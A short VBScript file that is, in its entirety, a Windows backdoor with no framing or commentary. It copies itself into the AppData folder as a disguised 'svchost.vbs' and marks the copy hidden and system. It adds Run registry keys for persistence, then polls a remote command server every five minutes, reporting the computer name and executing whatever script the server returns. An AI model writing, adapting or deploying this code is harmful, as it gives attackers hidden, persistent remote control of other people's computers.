On Error Resume Next
Set sh = CreateObject("WScript.Shell")
Set fso = CreateObject("Scripting.FileSystemObject")
dest = sh.ExpandEnvironmentStrings("%APPDATA%") & "\Microsoft\Windows\svchost.vbs"
If LCase(WScript.ScriptFullName) <> LCase(dest) Then
    fso.CopyFile WScript.ScriptFullName, dest, True
    fso.GetFile(dest).Attributes = 2 + 4
    sh.RegWrite "HKCU\Software\Microsoft\Windows\CurrentVersion\Run\WindowsHost", "wscript.exe //B """ & dest & """", "REG_SZ"
    sh.RegWrite "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\WindowsHost", "wscript.exe //B """ & dest & """", "REG_SZ"
End If
Do
    Set x = CreateObject("MSXML2.ServerXMLHTTP")
    x.Open "GET", "http://svc-host-check.invalid/cmd.php?h=" & sh.ExpandEnvironmentStrings("%COMPUTERNAME%"), False
    x.Send
    If Len(x.ResponseText) > 0 Then ExecuteGlobal x.ResponseText
    WScript.Sleep 300000
Loop
